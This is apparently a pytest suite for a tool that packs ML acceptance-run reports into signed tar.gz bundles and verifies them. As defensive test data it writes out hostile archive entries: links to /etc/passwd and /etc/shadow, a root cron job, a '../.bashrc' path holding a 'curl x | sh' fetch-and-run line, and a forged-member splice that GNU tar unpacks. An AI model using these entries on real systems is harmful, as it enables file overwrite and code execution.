"""Sign-off bundle: what goes in, and verify against tampered, missing, extra and hostile entries."""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import tarfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from mlenv.acceptance.core.result import CheckResult, Status
from mlenv.acceptance.judging import baselines
from mlenv.acceptance.records import bundle
from mlenv.cli.app import app
from mlenv.signoff import deployment_for, make_bundle

REPO = Path(__file__).resolve().parents[3]
ENV0 = {
    "host": "h0",
    "torch": "2.13.0",
    "cuda": "12.4",
    "nccl": "2.21.5",
    "deepspeed": "0.19.8",
    "python": "3.11.7",
    "driver": "550.54.15",
    "gpu_models": ["NVIDIA H100 80GB HBM3"],
    "ibv_devinfo": "hca_id:\tmlx5_0\n\tfw_ver:\t\t\t\t28.39.1002\n",
}


def make_report(d: Path) -> Path:
    """A finished run's report folder, with rank and NCCL logs and a link that must stay out."""
    d.mkdir(parents=True)
    rs = [
        CheckResult("environment", Status.PASS, "rank", "h0", 0, {"gpu_count": 8.0}, details=ENV0),
        CheckResult(
            "environment",
            Status.PASS,
            "rank",
            "h1",
            1,
            {"gpu_count": 8.0},
            details={"host": "h1", "torch": "2.13.0", "python": "3.11.7"},
        ),
        CheckResult("compute.matmul", Status.PASS, "rank", "h0", 0, {"tflops_fp32": 0.1}),
    ]
    doc = {
        "schema_version": 1,
        "run_id": "20260101-000000-abc123",
        "started": "2026-01-01T00:00:00+00:00",
        "finished": "2026-01-01T00:01:00+00:00",
        "verdict": "PASS",
        "reasons": [],
        "profile": "quick",
        "baseline": f"CPU ({baselines.builtin_dir() / 'cpu.yaml'})",
        "world": {
            "nodes": 2,
            "ranks": 2,
            "backend": "gloo",
            "device": "cpu",
            "hosts": ["h0", "h1"],
        },
        "checks": [r.to_dict() for r in rs],
    }
    (d / "results.json").write_text(json.dumps(doc))
    (d / "results.jsonl").write_text("".join(json.dumps(r.to_dict()) + "\n" for r in rs))
    (d / "junit.xml").write_text("<testsuites/>\n")
    (d / "summary.md").write_text("# Acceptance: PASS\n\n![tflops.png](tflops.png)\n")
    (d / "tflops.png").write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(64))
    (d / "logs").mkdir()
    (d / "logs" / "rank-0.log").write_text("rank 0 says hello\n")
    (d / "logs" / "nccl-h0-123.log").write_text("NCCL INFO Bootstrap\n")
    (d / "secret-link").symlink_to("/etc/passwd")
    return d


def members(path: Path) -> dict[str, bytes]:
    with tarfile.open(path, "r:gz") as tf:
        return {m.name: (tf.extractfile(m).read() if m.isreg() else b"") for m in tf}  # type: ignore[union-attr]


def rewrite(
    src: Path,
    dst: Path,
    change: dict[str, bytes | None],
    add: list[tarfile.TarInfo] | None = None,
    add_data: list[bytes] | None = None,
) -> Path:
    """Copy a bundle, replacing (bytes) or dropping (None) members, and appending raw entries."""
    with tarfile.open(src, "r:gz") as tin, tarfile.open(dst, "w:gz") as tout:
        for m in tin:
            data = tin.extractfile(m).read() if m.isreg() else b""  # type: ignore[union-attr]
            rel = m.name.split("/", 1)[1]
            if rel in change:
                if change[rel] is None:
                    continue
                data = change[rel] or b""
                m.size = len(data)
            tout.addfile(m, io.BytesIO(data))
        for ti, data in zip(add or [], add_data or [], strict=True):
            tout.addfile(ti, io.BytesIO(data))
    return dst


@pytest.fixture()
def built(tmp_path: Path) -> tuple[Path, dict]:
    report = make_report(tmp_path / "report")
    return bundle.build(report, baseline=baselines.load(baselines.builtin_dir() / "cpu.yaml"))


def test_bundle_holds_every_report_file_logs_and_a_manifest_of_their_sha256(
    built: tuple[Path, dict],
) -> None:
    path, index = built
    assert path.name == "mlenv-bundle-20260101-000000-abc123.tar.gz"
    m = members(path)
    top = "mlenv-bundle-20260101-000000-abc123/"
    assert all(n.startswith(top) for n in m)
    rel = {n[len(top) :]: data for n, data in m.items()}
    assert set(rel) == {
        "MANIFEST",
        "bundle.json",
        "baseline/cpu.yaml",
        "run/results.json",
        "run/results.jsonl",
        "run/junit.xml",
        "run/summary.md",
        "run/tflops.png",
        "run/logs/rank-0.log",
        "run/logs/nccl-h0-123.log",
    }
    manifest = {line[66:]: line[:64] for line in rel["MANIFEST"].decode().splitlines()}
    assert set(manifest) == set(rel) - {"MANIFEST"}
    for name, digest in manifest.items():
        assert hashlib.sha256(rel[name]).hexdigest() == digest, name
    j = json.loads(rel["bundle.json"])
    assert j == index
    assert (j["run_id"], j["verdict"], j["cluster"], j["config"]) == (
        "20260101-000000-abc123",
        "PASS",
        "local",
        None,
    )
    assert (
        j["deployment"]["deployed"] is False and "nothing was deployed" in j["deployment"]["note"]
    )
    assert j["logs"] == ["run/logs/nccl-h0-123.log", "run/logs/rank-0.log"]
    assert j["left_out"] == ["left out secret-link: a link"]
    # every threshold with its source, and the file itself
    assert j["baseline"]["model"] == "CPU" and j["baseline"]["file"] == "baseline/cpu.yaml"
    assert j["baseline"]["rules"] and all(r["source"] for r in j["baseline"]["rules"])
    assert {(r["check"], r["metric"], r["op"]) for r in j["baseline"]["rules"]} >= {
        ("compute.matmul", "tflops_fp32", ">")
    }
    # versions per node, "not present" where the node did not have it
    assert (
        j["versions"]["h0"]["driver"] == "550.54.15"
        and j["versions"]["h0"]["hca_firmware"] == "mlx5_0: 28.39.1002"
    )
    assert (
        j["versions"]["h1"]["driver"] == "not present"
        and j["versions"]["h1"]["vbios"] == "not present"
    )


def test_an_untouched_bundle_verifies_and_the_cli_says_ok(built: tuple[Path, dict]) -> None:
    path, _ = built
    assert bundle.verify(path) == []
    r = CliRunner().invoke(app, ["bundle", "verify", str(path)])
    assert r.exit_code == 0 and "OK" in r.stdout


def test_a_tampered_file_is_named_and_exits_1(built: tuple[Path, dict], tmp_path: Path) -> None:
    path, _ = built
    doc = json.loads(members(path)[f"{bundle.top_dir('20260101-000000-abc123')}/run/results.json"])
    doc["verdict"] = "PASS"
    doc["checks"][2]["metrics"]["tflops_fp32"] = 9.9  # a better number than measured
    bad = rewrite(path, tmp_path / "bad.tar.gz", {"run/results.json": json.dumps(doc).encode()})
    problems = bundle.verify(bad)
    assert len(problems) == 1 and problems[0].startswith("tampered: run/results.json (sha256 ")
    r = CliRunner().invoke(app, ["bundle", "verify", str(bad)])
    assert r.exit_code == 1
    assert (
        "tampered: run/results.json" in r.stderr
        and "does NOT verify" in r.stderr
        and "Traceback" not in r.output
    )


def test_missing_and_extra_files_are_named(built: tuple[Path, dict], tmp_path: Path) -> None:
    path, _ = built
    top = bundle.top_dir("20260101-000000-abc123")
    extra = tarfile.TarInfo(f"{top}/run/fix.sh")
    extra.size = 3
    bad = rewrite(path, tmp_path / "bad.tar.gz", {"run/junit.xml": None}, [extra], [b"rm\n"])
    assert bundle.verify(bad) == [
        f"refused: {top}/run/fix.sh: out of order (MANIFEST first, then names in byte order)",
        "missing: run/junit.xml (listed in MANIFEST)",
        "extra: run/fix.sh (not in MANIFEST)",
    ]
    # without its MANIFEST nothing can be checked: said so, never "OK"
    no_manifest = rewrite(path, tmp_path / "nm.tar.gz", {"MANIFEST": None})
    assert bundle.verify(no_manifest)[-1] == "missing: MANIFEST (nothing to verify against)"


@pytest.mark.parametrize(
    "kind", ["symlink", "hardlink", "absolute", "dotdot", "device", "duplicate"]
)
def test_hostile_entries_are_refused(built: tuple[Path, dict], tmp_path: Path, kind: str) -> None:
    path, _ = built
    top = bundle.top_dir("20260101-000000-abc123")
    ti = tarfile.TarInfo(f"{top}/run/evil")
    data = b""
    if kind == "symlink":
        ti.type, ti.linkname = tarfile.SYMTYPE, "/etc/passwd"
    elif kind == "hardlink":
        ti.type, ti.linkname = tarfile.LNKTYPE, "/etc/shadow"
    elif kind == "absolute":
        ti.name, data = "/etc/cron.d/evil", b"* * * * * root sh\n"
    elif kind == "dotdot":
        ti.name, data = f"{top}/../../.bashrc", b"curl x | sh\n"
    elif kind == "device":
        ti.type = tarfile.CHRTYPE
    else:
        ti.name, data = f"{top}/run/results.json", b"{}"
    ti.size = len(data)
    bad = rewrite(path, tmp_path / "bad.tar.gz", {}, [ti], [data])
    problems = bundle.verify(bad)
    assert problems and problems[0].startswith("refused: "), problems
    want = {
        "symlink": "a link",
        "hardlink": "a link",
        "absolute": "absolute path",
        "dotdot": "'..' in the path",
        "device": "not a regular file",
        "duplicate": "appears twice",
    }[kind]
    assert want in problems[0]
    with pytest.raises(bundle.BundleError, match="refused"):
        bundle.read_member(bad, "run/results.json")


def _forge(src: Path, dst: Path, *, junk: bytes, member: str, data: bytes, after_end: bool) -> Path:
    """The bundle's tar stream with ``junk`` then a member (``member``: ``data``) spliced in:
    before the end-of-archive blocks (``after_end`` False) or after them."""
    import gzip

    raw = gzip.decompress(src.read_bytes())
    with tarfile.open(src, "r:gz") as tf:
        for _ in tf:
            pass
        end = tf.offset  # the end-of-archive blocks start here
    ti = tarfile.TarInfo(member)
    ti.size, ti.mode = len(data), 0o644
    forged = ti.tobuf(tarfile.PAX_FORMAT) + data + b"\0" * (-len(data) % tarfile.BLOCKSIZE)
    head, tail = (raw, b"") if after_end else (raw[:end], raw[end:])
    dst.write_bytes(
        gzip.compress(head + junk + forged + tail + (b"\0" * 1024 if after_end else b""))
    )
    return dst


@pytest.mark.parametrize("where", ["junk header", "after the end blocks"])
def test_data_the_verification_did_not_read_is_refused(
    built: tuple[Path, dict], tmp_path: Path, where: str
) -> None:
    """a junk header then a forged run/results.json (PASS where the real one says
    FAIL). Python's tarfile stops at the junk (or at the end blocks) and verify said "OK";
    GNU tar skips the junk and unpacks the forgery over the real file."""
    path, _ = built
    top = bundle.top_dir("20260101-000000-abc123")
    real = json.loads(members(path)[f"{top}/run/results.json"])
    forged_doc = json.dumps({**real, "verdict": "FORGED-PASS"}).encode()
    junk = b"" if where == "after the end blocks" else b"\xff" * tarfile.BLOCKSIZE
    bad = _forge(
        path,
        tmp_path / "forged.tar.gz",
        junk=junk,
        member=f"{top}/run/results.json",
        data=forged_doc,
        after_end=where == "after the end blocks",
    )
    if where == "junk header" and shutil.which(
        "tar"
    ):  # the threat is real: GNU tar unpacks the forgery
        out = tmp_path / "x"
        out.mkdir()
        import subprocess

        subprocess.run(["tar", "-xzf", str(bad), "-C", str(out)], capture_output=True, check=False)
        assert b"FORGED-PASS" in (out / top / "run" / "results.json").read_bytes()
    problems = bundle.verify(bad)
    assert any(
        p.startswith("refused: data the verification cannot read at byte ") for p in problems
    ), problems
    with pytest.raises(bundle.BundleError, match="cannot read"):
        bundle.read_member(bad, "run/results.json")
    r = CliRunner().invoke(app, ["bundle", "verify", str(bad)])
    assert r.exit_code == 1 and "does NOT verify" in r.stderr and "OK" not in r.stdout


def test_a_name_that_unpacks_onto_another_is_a_duplicate(
    built: tuple[Path, dict], tmp_path: Path
) -> None:
    path, _ = built
    top = bundle.top_dir("20260101-000000-abc123")
    ti = tarfile.TarInfo(f"{top}/run/./results.json")
    ti.size = 2
    bad = rewrite(path, tmp_path / "dup.tar.gz", {}, [ti], [b"{}"])
    assert any("appears twice" in p for p in bundle.verify(bad))


def test_an_untouched_bundle_has_nothing_unread(built: tuple[Path, dict]) -> None:
    assert bundle.verify(built[0]) == []  # the end blocks and gzip's record padding are zeros


def test_a_file_that_is_no_archive_is_unreadable_not_a_traceback(tmp_path: Path) -> None:
    junk = tmp_path / "junk.tar.gz"
    junk.write_bytes(b"\x1f\x8b\x08\x00garbage")
    assert bundle.verify(junk)[0].startswith("unreadable: ")
    r = CliRunner().invoke(app, ["bundle", "verify", str(junk)])
    assert r.exit_code == 1 and "Traceback" not in r.output
    r = CliRunner().invoke(app, ["bundle", "verify", str(tmp_path / "nope.tar.gz")])
    assert r.exit_code == 2 and "no such file" in r.stderr
    r = CliRunner().invoke(app, ["bundle", str(tmp_path / "no-run")])
    assert r.exit_code == 2 and "no such report folder" in r.stderr


def test_cluster_bundle_holds_config_and_manifests_compared_with_a_fresh_render(
    tmp_path: Path,
) -> None:
    """The committed k8s/ tree matches; a hand-edited, a missing and an extra file are each named."""
    (config, dep, files) = deployment_for("barcelona", REPO, None)
    assert (
        config[0] == "clusters/barcelona.yaml"
        and config[1] == (REPO / "clusters/barcelona.yaml").read_bytes()
    )
    assert [t["mode"] for t in dep["trees"]] == ["rdma", "tcp"] and all(
        t["matches_render"] for t in dep["trees"]
    )
    assert files and all(a.startswith(("deployed/rdma/", "deployed/tcp/")) for a in files)

    root = tmp_path / "repo"
    shutil.copytree(REPO / "clusters", root / "clusters", symlinks=True)
    shutil.copytree(REPO / "k8s" / "barcelona" / "tcp", root / "k8s" / "barcelona" / "tcp")
    sts = root / "k8s/barcelona/tcp/statefulset.yaml"
    sts.write_text(sts.read_text().replace("replicas: ", "replicas: 9"))
    (root / "k8s/barcelona/tcp/service.yaml").unlink()
    (root / "k8s/barcelona/tcp/extra.yaml").write_text("kind: ConfigMap\n")
    report = make_report(tmp_path / "report")
    out, index = make_bundle(report, root, tmp_path / "b.tar.gz", cluster="barcelona", mode="tcp")
    (tree,) = index["deployment"]["trees"]
    states = {f["name"]: f["state"] for f in tree["files"]}
    assert (states["statefulset.yaml"], states["service.yaml"], states["extra.yaml"]) == (
        "differs",
        "missing",
        "not rendered",
    )
    assert tree["matches_render"] is False
    assert (
        index["config"]["sha256"]
        == hashlib.sha256((root / "clusters/barcelona.yaml").read_bytes()).hexdigest()
    )
    m = members(out)
    top = bundle.top_dir("20260101-000000-abc123")
    assert m[f"{top}/deployed/tcp/statefulset.yaml"] == sts.read_bytes()
    assert m[f"{top}/config/barcelona.yaml"] == (root / "clusters/barcelona.yaml").read_bytes()
    assert bundle.verify(out) == []


def test_unknown_cluster_named_on_the_command_line_exits_2(tmp_path: Path) -> None:
    report = make_report(tmp_path / "report")
    r = CliRunner().invoke(
        app, ["bundle", str(report), "--cluster", "nope"], env={"MLENV_ROOT": str(REPO)}
    )
    assert r.exit_code == 2 and "unknown cluster 'nope'" in r.stderr
    r = CliRunner().invoke(
        app, ["bundle", str(report), "--cluster", "../../etc"], env={"MLENV_ROOT": str(REPO)}
    )
    assert r.exit_code == 2 and "expected a cluster name" in r.stderr


@pytest.mark.parametrize("what", ["link to a kubeconfig", "link to /dev/zero", "4 MiB config"])
def test_a_linked_or_oversized_cluster_config_stays_out_of_the_bundle(
    tmp_path: Path, what: str
) -> None:
    """clusters/<name>.yaml linked to a kubeconfig was bundled with its token, and
    the config was read without the loader's size cap (an oversized one was bundled as is)."""
    root = tmp_path / "repo"
    (root / "clusters").mkdir(parents=True)
    secret = tmp_path / "kubeconfig"
    secret.write_text("users: [{user: {token: sha256~SECRET}}]\n")
    cfg = root / "clusters" / "x.yaml"
    if what == "4 MiB config":
        cfg.write_text("cluster: {name: x, namespace: y}\n" + "#" * (4 << 20) + "\n")
    else:
        cfg.symlink_to(secret if "kubeconfig" in what else "/dev/zero")
    report = make_report(tmp_path / "report")
    r = CliRunner().invoke(
        app,
        ["bundle", str(report), "--cluster", "x", "--out", str(tmp_path / "b.tar.gz")],
        env={"MLENV_ROOT": str(root)},
    )
    assert r.exit_code == 2, r.output
    want = "file is too large" if what == "4 MiB config" else "a symbolic link"
    assert want in r.stderr and "clusters/x.yaml" in r.stderr and "Traceback" not in r.output
    assert not (tmp_path / "b.tar.gz").exists()


def test_bundle_of_a_local_run_with_cluster_says_what_actually_ran(tmp_path: Path) -> None:
    """`mlenv bundle --cluster barcelona` of a CPU --local run labelled it
    barcelona's PASS. The bundle says what ran (this machine, CPU ranks, nodes); the
    config it was asked for is there for reference only."""
    report = make_report(tmp_path / "report")
    rec = {"run_id": "20260101-000000-abc123", "cluster": "local", "origin": "local"}
    (report / "record.json").write_text(json.dumps(rec))
    r = CliRunner().invoke(
        app,
        ["bundle", str(report), "--cluster", "barcelona", "--out", str(tmp_path / "b.tar.gz")],
        env={"MLENV_ROOT": str(REPO)},
    )
    assert r.exit_code == 0, r.output
    assert (
        "cluster local; ran on this machine (mlenv acceptance --local): 2 rank(s), cpu/gloo, 2 node(s)"
        in r.stdout
    )
    assert "cluster barcelona" not in r.stdout
    assert "ran on this machine (mlenv acceptance --local), not on cluster barcelona" in r.stderr
    top = bundle.top_dir("20260101-000000-abc123")
    index = json.loads(members(tmp_path / "b.tar.gz")[f"{top}/bundle.json"])
    assert index["cluster"] == "local"
    assert index["ran"] == {
        "platform": "this machine (mlenv acceptance --local)",
        "cluster": "local",
        "device": "cpu",
        "backend": "gloo",
        "ranks": 2,
        "nodes": 2,
        "hosts": ["h0", "h1"],
    }
    assert index["deployment"]["note"].startswith(
        "for reference only: run 20260101-000000-abc123 ran on this machine"
    )
    assert index["config"]["file"] == "config/barcelona.yaml"  # asked for, so included
    # a run of the cluster itself says so
    (report / "record.json").write_text(
        json.dumps({**rec, "cluster": "barcelona", "origin": "cluster"})
    )
    _, index = make_bundle(report, REPO, tmp_path / "c.tar.gz")
    assert index["cluster"] == "barcelona" and index["ran"]["platform"] == "openshift"


def test_slurm_cluster_bundle_holds_its_scripts_compared_with_a_fresh_render(
    tmp_path: Path,
) -> None:
    """A platform: slurm cluster has sbatch scripts under slurm/<name>/ instead of k8s/ manifests."""
    from mlenv.config import load
    from mlenv.generated import write_tree
    from mlenv.render.platforms import planned

    root = tmp_path / "repo"
    (root / "clusters").mkdir(parents=True)
    shutil.copy(REPO / "tests/data/platforms/cpu-slurm.yaml", root / "clusters" / "cpu-slurm.yaml")
    c = load("cpu-slurm", root)
    d, fresh = planned(root, c)
    write_tree(fresh, d)
    first = sorted(fresh)[0]
    (d / first).write_text((d / first).read_text() + "\n# edited by hand\n")
    (config, dep, files) = deployment_for(c.name, root, None)
    (tree,) = dep["trees"]
    assert (
        tree["mode"] == "slurm"
        and tree["dir"] == f"slurm/{c.name}"
        and tree["matches_render"] is False
    )
    states = {f["name"]: f["state"] for f in tree["files"]}
    assert states.pop(first) == "differs" and set(states.values()) == {"matches"}
    assert set(files) == {f"deployed/slurm/{n}" for n in fresh}
    assert f"slurm/{c.name}/" in dep["note"]


def test_manifest_digest_is_printed_and_odd_names_stay_out(tmp_path: Path) -> None:
    report = make_report(tmp_path / "report")
    (report / "bad\nname.log").write_text("x")
    path, index = bundle.build(report)
    assert "left out bad\\nname.log: control character in the name" in index["left_out"]
    assert bundle.verify(path) == []
    digest = bundle.manifest_sha256(path)
    assert digest and len(digest) == 64
    r = CliRunner().invoke(app, ["bundle", "verify", str(path)])
    assert r.exit_code == 0 and f"MANIFEST sha256: {digest}" in r.stdout
    top = bundle.top_dir("20260101-000000-abc123")
    manifest = members(path)[f"{top}/MANIFEST"].decode()
    twice = rewrite(
        path,
        tmp_path / "twice.tar.gz",
        {"MANIFEST": (manifest + manifest.splitlines()[0] + "\n").encode()},
    )
    assert bundle.verify(twice)[0].startswith("tampered: MANIFEST lists ")


def test_the_bundle_takes_only_this_runs_files(tmp_path: Path) -> None:
    """Not the run's own claim lock, and not a log last written long before the run started
    (another host's or another run's NCCL log left in a shared folder)."""
    import time

    from mlenv.acceptance.records.rundir import LOCK_FILE

    report = make_report(tmp_path / "report")
    doc = json.loads((report / "results.json").read_text())
    doc["started"] = time.strftime("%Y-%m-%dT%H:%M:%S+00:00", time.gmtime())
    (report / "results.json").write_text(json.dumps(doc))
    (report / LOCK_FILE).write_text(f"{os.getpid()} {doc['run_id']}\n")
    (report / "nccl").mkdir()
    stale = report / "nccl" / "rank0.otherhost.77.log"
    stale.write_text("NCCL INFO NET/IB : Using [0]mlx5_9\n")
    old = time.time() - 86400
    os.utime(stale, (old, old))
    (report / "nccl" / "rank0.h0.12.log").write_text("NCCL INFO NET/Socket\n")
    out, index = bundle.build(report, tmp_path / "b.tar.gz")
    names = {n.split("/", 1)[1] for n in members(out)}
    assert "run/nccl/rank0.h0.12.log" in names
    assert "run/nccl/rank0.otherhost.77.log" not in names
    assert f"run/{LOCK_FILE}" not in names
    assert (
        "left out nccl/rank0.otherhost.77.log: written before the run started (not this run's)"
        in index["left_out"]
    )
